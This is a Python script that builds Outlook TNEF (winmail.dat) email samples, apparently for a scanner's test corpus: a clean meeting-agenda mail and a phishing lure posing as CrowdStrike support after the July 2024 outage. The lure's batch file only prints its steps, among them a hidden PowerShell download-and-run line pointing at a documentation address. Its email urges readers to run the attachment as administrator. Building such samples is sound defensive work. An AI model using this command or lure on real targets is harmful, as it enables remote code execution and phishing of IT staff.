#!/usr/bin/env python3
"""Build the Outlook TNEF (winmail.dat) mail samples.

Outlook wraps a rich-text message's attachments and bodies in one TNEF stream
([MS-OXTNEF]) sent as `winmail.dat` (application/ms-tnef).  No library writes TNEF,
so `tnef()` below writes the attributes Outlook puts there: TNEF version and code
page, message class, subject and body, the MAPI properties holding the compressed
RTF body, and per attachment its rendering data, short name (attAttachTitle),
bytes (attAttachData) and MAPI properties with the long file name.  Each attribute
is: level (1 message, 2 attachment), id (type in the high word, little-endian),
length, data, checksum (sum of the data bytes mod 65536).  The tests import
`tnef()` to build truncated and encrypted variants.  Harmless like every sample:
the "hotfix" script only prints its steps, and names documentation addresses.

    python samples/build_tnef.py           # (re)write the samples
    python samples/build_tnef.py --check   # exit 1 if a rebuild would change a file

Needs compressed-rtf (installed with extract-msg) to write the RTF body.
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import sampleio  # noqa: E402
from build import MARK, make_zip  # noqa: E402
from build_mail import b64, eml  # noqa: E402

SIGNATURE = 0x223E9F78
MESSAGE, ATTACHMENT = 1, 2
ATT_TNEF_VERSION = 0x00089006
ATT_OEM_CODEPAGE = 0x00069007
ATT_MESSAGE_CLASS = 0x00078008
ATT_SUBJECT = 0x00018004
ATT_BODY = 0x0002800C
ATT_MSG_PROPS = 0x00069003
ATT_ATTACH_REND_DATA = 0x00069002
ATT_ATTACH_TITLE = 0x00018010
ATT_ATTACH_DATA = 0x0006800F
ATT_ATTACHMENT = 0x00069005
PT_LONG, PT_STRING8, PT_BINARY = 0x0003, 0x001E, 0x0102
PR_RTF_COMPRESSED, PR_BODY_HTML = 0x1009, 0x1013
PR_ATTACH_METHOD, PR_ATTACH_LONG_FILENAME = 0x3705, 0x3707


def attribute(level: int, attr_id: int, data: bytes) -> bytes:
    return struct.pack("<BII", level, attr_id, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def mapi_props(props: list[tuple[int, int, bytes]]) -> bytes:
    """A MAPI property list ([MS-OXTNEF] 2.1.3.4): count, then type, id and value of each;
    a string or binary is one value: its length, then its bytes padded to 4."""
    out = struct.pack("<I", len(props))
    for ptype, pid, value in props:
        out += struct.pack("<HH", ptype, pid)
        out += value if ptype == PT_LONG else struct.pack("<II", 1, len(value)) + value + bytes(-len(value) % 4)
    return out


def short_name(name: str) -> str:
    """The 8.3 name older clients put in attAttachTitle (`Falcon_Sensor_Hotfix.zip` -> `FALCON~1.ZIP`)."""
    stem, _, ext = name.rpartition(".")
    stem = "".join(c for c in (stem or ext).upper() if c.isalnum())
    return f"{stem[:6]}~1.{ext.upper()[:3]}" if len(stem) > 8 else f"{stem}.{ext.upper()[:3]}"


def tnef(attachments: list[tuple[str, bytes]], *, subject: str = "", body: str = "", rtf: str = "",
         html: str = "", long_names: bool = True, titles: bool = True) -> bytes:
    """A winmail.dat: message attributes, then each attachment (`long_names`: long name in its
    MAPI properties, `titles`: 8.3 name in attAttachTitle)."""
    out = struct.pack("<IH", SIGNATURE, 0x5A17)
    out += attribute(MESSAGE, ATT_TNEF_VERSION, struct.pack("<I", 0x00010000))
    out += attribute(MESSAGE, ATT_OEM_CODEPAGE, struct.pack("<II", 1252, 0))
    out += attribute(MESSAGE, ATT_MESSAGE_CLASS, b"IPM.Microsoft Mail.Note\x00")
    if subject:
        out += attribute(MESSAGE, ATT_SUBJECT, subject.encode("cp1252") + b"\x00")
    if body:
        out += attribute(MESSAGE, ATT_BODY, body.encode("cp1252"))
    props = []
    if rtf:
        from compressed_rtf import compress
        props.append((PT_BINARY, PR_RTF_COMPRESSED, compress(rtf.encode("cp1252"), compressed=True)))
    if html:
        props.append((PT_BINARY, PR_BODY_HTML, html.encode("utf-8")))
    if props:
        out += attribute(MESSAGE, ATT_MSG_PROPS, mapi_props(props))
    for name, data in attachments:
        out += attribute(ATTACHMENT, ATT_ATTACH_REND_DATA, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 1))
        if titles:
            out += attribute(ATTACHMENT, ATT_ATTACH_TITLE, short_name(name).encode("cp1252") + b"\x00")
        out += attribute(ATTACHMENT, ATT_ATTACH_DATA, data)
        if long_names:
            out += attribute(ATTACHMENT, ATT_ATTACHMENT, mapi_props([
                (PT_LONG, PR_ATTACH_METHOD, struct.pack("<I", 1)),
                (PT_STRING8, PR_ATTACH_LONG_FILENAME, name.encode("cp1252") + b"\x00")]))
    return out


def rtf_body(text: str) -> str:
    lines = "\\par\r\n".join(text.replace("\\", "\\\\").replace("{", "\\{").replace("}", "\\}").splitlines())
    return "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n\\f0\\fs22 " + lines + "\\par\r\n}"


def mail(headers: str, text: str, winmail: bytes) -> bytes:
    """A multipart mail as Outlook sends rich text to non-Outlook recipients: a plain-text
    rendition of the body, then winmail.dat holding the attachments and rich body."""
    return eml(f"""{headers.strip()}
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_tnef_boundary"
X-MS-TNEF-Correlator: <00000000F1A1C0A5E4B8D34FA6F0D7B2C1E3A9F4@example.com>

--=_tnef_boundary
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

{text}
--=_tnef_boundary
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64(winmail)}
--=_tnef_boundary--
""")


FALCON_SCRIPT = f"""@echo off
rem Falcon Sensor Hotfix 7.16 ({MARK})
rem Models the fake "hotfix" scripts mailed after the 19 July 2024 outage: every step is only printed.
echo Removing the faulty channel file:
echo   del /f /q "%WINDIR%\\System32\\drivers\\CrowdStrike\\C-00000291*.sys"
echo Installing the sensor hotfix:
echo   powershell -w hidden -c "iwr http://203.0.113.7/falcon/hotfix.ps1 | iex"
echo Done. Restart the computer.
pause
""".replace("\n", "\r\n").encode("ascii")

FALCON_TEXT = f"""Dear customer,

Hosts running the Falcon sensor are affected by the faulty channel file update of 19 July.
Install the attached Falcon sensor hotfix immediately: open the attached Falcon_Sensor_Hotfix.zip
and run Falcon_Sensor_Hotfix.bat as administrator, then restart the host.

CrowdStrike Support
({MARK})
"""

FALCON_HEADERS = """
Return-Path: <bounce@crowdstrike-fix.com>
From: "CrowdStrike Support" <support@crowdstrike-fix.com>
To: it-team@example.com
Subject: URGENT: Falcon sensor hotfix - install immediately
Date: Sat, 20 Jul 2024 08:31:00 +0000
Message-ID: <20240720083100.7713@crowdstrike-fix.com>
"""

AGENDA = f"""Planning meeting - Thursday 25 July 2024, 10:00, room 2.14

1. Review of last quarter's figures (Anna)
2. Office move: timeline and packing lists (Ben)
3. Summer rota for the help desk (Carla)
4. Any other business

Please send additions by Wednesday noon.
({MARK})
""".replace("\n", "\r\n").encode("ascii")

MEETING_TEXT = f"""Hi all,

please find the agenda for Thursday's planning meeting attached.
Coffee will be there from 9:45.

Best regards,
Dana
({MARK})
"""

MEETING_HEADERS = """
From: "Dana Whitfield" <dana.whitfield@example.com>
To: team@example.com
Subject: Agenda for Thursday's planning meeting
Date: Mon, 22 Jul 2024 14:05:00 +0000
Message-ID: <20240722140500.1188@mail.example.com>
"""


def build() -> dict[str, bytes]:
    hotfix_zip = make_zip([("Falcon_Sensor_Hotfix.bat", FALCON_SCRIPT)])
    subject = "URGENT: Falcon sensor hotfix - install immediately"
    falcon = tnef([("Falcon_Sensor_Hotfix.zip", hotfix_zip)], subject=subject,
                  body=FALCON_TEXT.replace("\n", "\r\n"), rtf=rtf_body(FALCON_TEXT))
    meeting = tnef([("Meeting_Agenda.txt", AGENDA)], subject="Agenda for Thursday's planning meeting",
                   body=MEETING_TEXT.replace("\n", "\r\n"), rtf=rtf_body(MEETING_TEXT))
    return {"lures/mail/falcon_winmail.eml": mail(FALCON_HEADERS, FALCON_TEXT, falcon),
            "clean/mail/meeting_winmail.eml": mail(MEETING_HEADERS, MEETING_TEXT, meeting)}


def main(argv: list[str] | None = None) -> int:
    return sampleio.main(build, HERE, __doc__ or "", argv)


if __name__ == "__main__":
    sys.exit(main())
